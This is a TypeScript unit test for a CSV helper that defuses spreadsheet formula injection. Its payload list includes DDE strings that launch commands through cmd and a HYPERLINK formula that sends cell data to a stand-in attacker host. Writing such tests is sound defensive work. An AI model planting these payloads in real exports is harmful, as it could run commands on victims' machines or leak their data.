import { describe, expect, it } from 'vitest';
import { csvLine, defuseFormula } from './csv.ts';

// The payloads of the OWASP "CSV Injection" page, and the variants that slipped past the first fix.
const owaspPayloads = [
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for further information")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '+2+3+cmd|\' /C calc\'!A0',
  '-1+cmd|\' /C calc\'!A0',
  '-3.5*cmd|\' /C calc\'!A0',
  '-A1',
  '\t=1+1',
  '\r=1+1',
  '\n-1+1',
  ' =1+1',
  '  @SUM(1,1)',
  '"=1+1"',
  '\'=1+1',
  '＝1+1',
  '－1+1',
];

describe('CSV cells', () => {
  it('defuse every OWASP formula payload with a leading quote', () => {
    for (const payload of owaspPayloads) {
      expect(defuseFormula(payload), JSON.stringify(payload)).toBe(`'${payload}`);
      expect(csvLine([payload]), JSON.stringify(payload)).toMatch(/^"?'/);
    }
  });

  it('leave numbers, plain text and text with a formula sign inside it as they are', () => {
    for (const value of ['-12.50', '+49', '42', 'Acme = best', 'a-b', 'mail@example.com', '']) {
      expect(defuseFormula(value)).toBe(value);
    }
    expect(csvLine([-3, 1.5, true, null, undefined, 'Hello, "World"'])).toBe('-3,1.5,true,,,"Hello, ""World"""\r\n');
  });
});
